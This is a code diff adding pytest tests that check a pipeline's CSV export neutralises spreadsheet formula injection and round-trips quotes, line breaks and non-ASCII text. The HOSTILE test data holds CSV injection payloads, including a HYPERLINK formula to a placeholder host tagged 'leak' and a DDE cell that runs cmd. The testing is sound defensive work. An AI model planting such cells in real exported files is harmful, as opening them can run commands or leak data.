@@ -2,15 +2,65 @@
 
 import csv
 import io
+import sqlite3
 
+import pandas as pd
 import pyarrow.parquet as pq
 import pytest
 
 from api import exports, records
 from api.db import Database
+from dummyjson.users import make_user
 from saver import quality, report
 from saver.store import Store
 from tests.unit.saver.test_quality import load, users
+
+# Cells a spreadsheet would run or split (OWASP's CSV injection payloads), and text that only
+# survives a round trip when quoted: CR, LF, CRLF, quotes, commas, non-ASCII.
+HOSTILE = (
+    '=HYPERLINK("http://x/?leak","y")',
+    "+1+2",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "a\rb",
+    "a\nb",
+    "a\r\nb\r",
+    'say "hi", then go',
+    "'=already quoted",
+    "Zoë 東京 🙂 — «ok»",
+    "=",
+    "'",
+)
+# What a spreadsheet takes for a formula (OWASP); a number is read as a number, never run.
+FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def hostile_users(count: int) -> list[dict]:
+    """Users of the local source with a hostile value in every text field the pipeline keeps."""
+    out = []
+    for uid in range(1, count + 1):
+        user = make_user(uid)
+        h = [HOSTILE[(uid + k) % len(HOSTILE)] for k in range(11)]
+        user.update(firstName=h[0], lastName=h[1], username=h[2], gender=h[3], userAgent=h[4], role=h[5])
+        user["company"].update(department=h[6], title=h[7])
+        user["address"].update(city=h[8], state=h[9])
+        # Every other e-mail keeps a valid shape, so processed_users gets formula-starting addresses too.
+        user["email"] = f"{'=+-'[uid % 3]}{uid}@x.dummyjson.com" if uid % 2 else h[10]
+        out.append(user)
+    return out
+
+
+def text_columns(conn: sqlite3.Connection, table: records.Table) -> list[str]:
+    declared = {row[1]: row[2].upper() for row in conn.execute(f"PRAGMA table_info({table.name})")}
+    return [c for c in table.columns if declared.get(c, "TEXT") == "TEXT"]
+
+
+def unneutralised(cell: str) -> str:
+    """The stored value of a safe export's cell: one leading single quote dropped."""
+    return cell[1:] if cell.startswith("'") else cell
 
 
 @pytest.fixture(scope="module")
@@ -20,6 +70,82 @@ def db_path(tmp_path_factory):
     load(store, "r1", "20261125_030000", users(103))
     store.close()
     return path
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory):
+    """The saver's store loaded with hostile users, then a hostile value in every text column it derives."""
+    path = tmp_path_factory.mktemp("hostile") / "data.db"
+    store = Store(str(path))
+    load(store, "=run|x", "20261125_030000", [*hostile_users(60), *users(40)])
+    store.close()
+    with sqlite3.connect(path) as conn:
+        for table in records.TABLES.values():
+            ids = [r[0] for r in conn.execute(f"SELECT id FROM {table.name} ORDER BY id")]
+            for column in text_columns(conn, table):
+                # The columns the pipeline writes itself (codes, reasons, times) could hold anything too.
+                for i, row_id in enumerate(ids[: len(HOSTILE)]):
+                    conn.execute(f"UPDATE {table.name} SET {column} = ? WHERE id = ?", (HOSTILE[i], row_id))
+    return path
+
+
+@pytest.mark.parametrize("table", list(records.TABLES.values()), ids=list(records.TABLES))
+def test_hostile_cells_read_back_exactly_and_never_start_a_formula(hostile_db, table):
+    with sqlite3.connect(hostile_db) as conn:
+        stored = conn.execute(f"SELECT {', '.join(table.columns)} FROM {table.name} ORDER BY id").fetchall()
+        texts = text_columns(conn, table)
+    assert len(stored) > len(HOSTILE) and texts
+    expected = [["" if v is None else str(v) for v in row] for row in stored]
+    for column in texts:  # the data is as hostile as intended: every text column holds every payload
+        i = table.columns.index(column)
+        assert set(HOSTILE) <= {row[i] for row in stored}, column
+
+    def export(raw: bool) -> bytes:
+        sel = exports.Selection(Database(str(hostile_db)), table, records.Query(sort="id"), chunk_rows=7)
+        return b"".join(exports.csv_chunks(sel, raw))
+
+    safe, raw = export(False), export(True)
+    for data in (safe, raw):
+        rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
+        assert rows[0] == list(table.columns)
+        # pandas reads the same cells as Python's csv module (no row split by a CR or LF).
+        frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
+        assert frame.values.tolist() == rows[1:]
+        if data is raw:
+            assert rows[1:] == expected
+        else:
+            assert [[unneutralised(c) for c in row] for row in rows[1:]] == expected
+            starts = [c for row in rows[1:] for c in row if c.startswith(FORMULA) and not _number(c)]
+            assert starts == []
+        # Every field quoted: the file is exactly its cells written back with every field in quotes.
+        again = io.StringIO()
+        csv.writer(again, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
+        assert again.getvalue() == data.decode()
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_the_stored_value_comes_back_from_parquet_unchanged(hostile_db):
+    table = records.TABLES["processed_users"]
+    sel = exports.Selection(Database(str(hostile_db)), table, records.Query(sort="id"))
+    data = pq.read_table(io.BytesIO(b"".join(exports.parquet_chunks(sel))))
+    with sqlite3.connect(hostile_db) as conn:
+        names = [r[0] for r in conn.execute("SELECT first_name FROM processed_users ORDER BY id")]
+    assert data.column("first_name").to_pylist() == names and set(HOSTILE) <= set(names)
+
+
+@pytest.mark.parametrize(
+    ("value", "safe"),
+    [("=1+1", "'=1+1"), ("\t-1", "'\t-1"), ("'x", "''x"), ("a=1", "a=1"), ("", ""), (-5, -5), (None, None)],
+)
+def test_neutralised_prefixes_text_only(value, safe):
+    assert exports.neutralised(value) == safe
 
 
 @pytest.mark.parametrize("chunk_rows", [1, 7, 10_000])
